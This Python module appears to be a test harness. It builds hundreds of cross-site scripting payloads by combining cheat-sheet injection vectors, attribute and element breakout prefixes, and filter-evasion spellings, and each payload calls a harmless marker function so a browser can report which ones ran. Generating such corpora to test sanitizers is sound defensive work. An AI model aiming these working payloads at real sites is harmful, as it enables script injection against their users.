"""Hundreds of texts that try to run something, made by putting known ways together.

The ways are those that the OWASP XSS filter evasion cheat sheet describes (from memory): elements that run by
themselves, handlers, addresses that are script, ways out of an attribute or an element, and spellings that filters
overlook. Every text calls ``ran`` with a name of its own, so that a browser can say which of them did; a name of
letters, because a guide's words that repeat a number of the plan are not published.
"""

from __future__ import annotations

from itertools import product

# Ways to run; CALL becomes the call.
_PAYLOADS = (
    "<script>CALL</script>",
    "<img src=x onerror=CALL>",
    "<svg onload=CALL>",
    "<svg><script>CALL</script></svg>",
    "<svg><animate onbegin=CALL attributeName=x dur=9s>",
    "<body onload=CALL>",
    "<input autofocus onfocus=CALL>",
    "<details open ontoggle=CALL>x",
    "<video><source onerror=CALL></video>",
    "<audio src=x onerror=CALL>",
    "<iframe srcdoc='<script>parent.CALL</script>'></iframe>",
    "<iframe src=javascript:parent.CALL></iframe>",
    "<object data=javascript:CALL></object>",
    "<embed src=javascript:CALL>",
    "<a href=javascript:CALL autofocus onfocus=CALL>x</a>",
    "<marquee onstart=CALL>x</marquee>",
    "<p style='animation:k 9s' onanimationstart=CALL>x</p>",
    "<math><mtext><script>CALL</script></mtext></math>",
    "<button autofocus onfocus=CALL>x</button>",
    "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
    "<link rel=stylesheet href=x onerror=CALL>",
    "[x](javascript:CALL)",
    '![x](x "onerror=CALL)',
    "<javascript:CALL>",
    "{% CALL %}{{ CALL }}",
)
# Ways out of where a text may stand.
_OUT = ("", '">', "'>", "</textarea>", "</title></style>", "-->", "]]>", "</p></q></b></details>")
# Ways to be overlooked.
_SPELLINGS = (
    lambda text: text,
    str.swapcase,
    lambda text: text.replace(" ", "/", 1) if " " in text else f"<{text}",
    lambda text: text.replace("javascript:", "java&#115;cript&colon;").replace("=CALL", "='CALL'"),
)


def texts() -> list[str]:
    """Give every text."""
    made: list[str] = []
    for out, payload, spelling in product(_OUT, _PAYLOADS, _SPELLINGS):
        call = f"ran`{name(len(made))}`"
        made.append((out + spelling(payload)).replace("CALL", call).replace("call", call))
    return made


def name(number: int) -> str:
    """Give the letters that stand for a number."""
    return "".join(chr(ord("a") + int(digit)) for digit in f"{number:03d}")


def packed(strings: list[str], longest: int) -> str:
    """Take as many texts off the list as a field holds, in their order; none if the first is too long for it."""
    taken = ""
    while strings and len(taken) + len(strings[0]) + 1 <= longest:
        taken += strings.pop(0) + " "
    return taken.strip()
